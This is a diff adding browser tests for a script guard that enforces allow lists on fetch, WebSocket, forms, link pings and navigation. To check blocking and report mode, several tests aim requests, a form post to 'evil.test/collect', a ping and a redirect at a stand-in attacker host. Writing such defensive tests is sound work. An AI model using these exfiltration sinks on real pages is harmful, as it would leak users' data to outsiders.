@@ -1,0 +1,118 @@
+// Start-up and configuration: requests made before the engine is ready, failing closed (no
+// 'wasm-unsafe-eval', a bad config), report mode, and the navigation sinks.
+import assert from 'node:assert/strict';
+import { after, before, test } from 'node:test';
+
+import { OPTIONS, PAGE_CSP, served, startBrowser } from './harness.mjs';
+
+let browser;
+before(async () => {
+  browser = await startBrowser();
+});
+after(() => browser.close());
+
+test('requests made before the engine is ready: fetch is held then decided, synchronous sinks are refused', async () => {
+  const page = await browser.open({
+    options: OPTIONS,
+    csp: PAGE_CSP,
+    afterInstall: `window.early = {
+      allowed: attempt(() => fetch('https://api.test/v1/early').then((r) => r.json())),
+      blocked: attempt(() => fetch('https://evil.test/early')),
+      socket: attempt(() => new WebSocket('wss://live.test/early')),
+    };`,
+  });
+  const result = await page.evaluate(async () => ({
+    allowed: await early.allowed, blocked: await early.blocked, socket: await early.socket,
+  }));
+  assert.equal(result.allowed.value.path, '/v1/early');
+  assert.equal(result.blocked.error, 'TypeError');
+  assert.equal(result.socket.error, 'SecurityError');
+  assert.match(result.socket.message, /the guard is still starting/);
+  await page.close();
+});
+
+test("without 'wasm-unsafe-eval' the guard fails closed and says how to fix the policy", async () => {
+  const page = await browser.open({ options: OPTIONS, csp: "script-src 'self' 'unsafe-inline'" });
+  const result = await page.evaluate(async () => ({
+    install: await attempt(() => guardReady),
+    fetch: await attempt(() => fetch('https://api.test/v1/x')),
+  }));
+  assert.match(result.install.message, /failed closed/);
+  assert.match(result.fetch.message, /'wasm-unsafe-eval'/);
+  assert.ok(page.consoleLines.some((line) => line.startsWith('error: widget-guard: failed closed') && line.includes("Add 'wasm-unsafe-eval' to script-src")), page.consoleLines.join('\n'));
+  assert.ok(!served.includes('api.test/v1/x'));
+  await page.close();
+});
+
+test('an invalid config fails closed and names the field and what to write', async () => {
+  const cases = [
+    [{ allow: [{ origin: 'api.test' }] }, /allow\[0\]\.origin: got "api\.test"; expected an origin with a scheme/],
+    [{ allow: [{ origin: 'https://api.test', methodz: ['GET'] }] }, /unknown field allow\[0\]\.methodz/],
+    [{ csp: 'connect-src https://api.test', alow: [] }, /unknown option alow/],
+    [{ connectDomains: ['https://api.test', "'unsafe-inline'"] }, /connectDomains\[1\]/],
+    [{}, /nothing to enforce/],
+    [{ csp: 'connect-src https://bücher.test' }, /Punycode/],
+  ];
+  for (const [options, expected] of cases) {
+    const page = await browser.open({ options, csp: PAGE_CSP });
+    const result = await page.evaluate(async () => ({
+      install: await attempt(() => guardReady),
+      fetch: await attempt(() => fetch('https://api.test/v1/x')),
+    }));
+    assert.match(result.install.message, expected, JSON.stringify(options));
+    assert.equal(result.fetch.error, 'TypeError', 'every request is denied');
+    await page.close();
+  }
+});
+
+test('connectDomains alone become connect-src', async () => {
+  const page = await browser.open({ options: { connectDomains: ['https://api.test'] }, csp: PAGE_CSP });
+  const result = await page.evaluate(() => blockedAndAllowed());
+  assert.equal(result.allowed.value.host, 'api.test');
+  assert.equal(result.blocked.error, 'TypeError');
+  await page.close();
+});
+
+test('report mode lets the request through and reports it', async () => {
+  const page = await browser.open({ options: { ...OPTIONS, mode: 'report' }, csp: PAGE_CSP });
+  const result = await page.evaluate(async () => ({ fetch: await attempt(() => fetch('https://evil.test/report-me').then((r) => r.json())), violations }));
+  assert.equal(result.fetch.value.host, 'evil.test');
+  assert.equal(result.violations[0].disposition, 'report');
+  assert.match(result.violations[0].reason, /report mode: not blocked/);
+  assert.ok(page.consoleLines.some((line) => line.startsWith('warning: widget-guard: fetch blocked: https://evil.test/report-me')));
+  await page.close();
+});
+
+test('navigation sinks: forms, <a ping>, location, window.open follow the redirects list', async () => {
+  const page = await browser.open({ options: OPTIONS, csp: PAGE_CSP });
+  const result = await page.evaluate(async () => {
+    await guardReady;
+    document.body.innerHTML = `
+      <form id="evil" action="https://evil.test/collect" method="post"><input name="q" value="1"></form>
+      <a id="ping" href="#here" ping="https://evil.test/ping https://api.test/v1/ping">link</a>`;
+    violations.length = 0;
+    const form = document.getElementById('evil');
+    form.requestSubmit();
+    form.submit();
+    document.getElementById('ping').click();
+    const pingAfterClick = document.getElementById('ping').getAttribute('ping');
+    location.href = 'https://evil.test/navigate';
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    return {
+      sinks: violations.map((v) => `${v.sink} ${v.blockedURL}`),
+      pingAfterClick,
+      stillHere: location.href,
+      openAllowed: window.open('https://docs.test/help') !== null,
+    };
+  });
+  assert.deepEqual(result.sinks, [
+    'form-submit https://evil.test/collect',
+    'form-submit https://evil.test/collect',
+    'ping https://evil.test/ping',
+    'navigation https://evil.test/navigate',
+  ]);
+  assert.equal(result.pingAfterClick, 'https://api.test/v1/ping', 'the blocked ping URL is dropped, the allowed one kept');
+  assert.match(result.stillHere, /^https:\/\/widget\.test\/widget/);
+  assert.equal(result.openAllowed, true);
+  await page.close();
+});
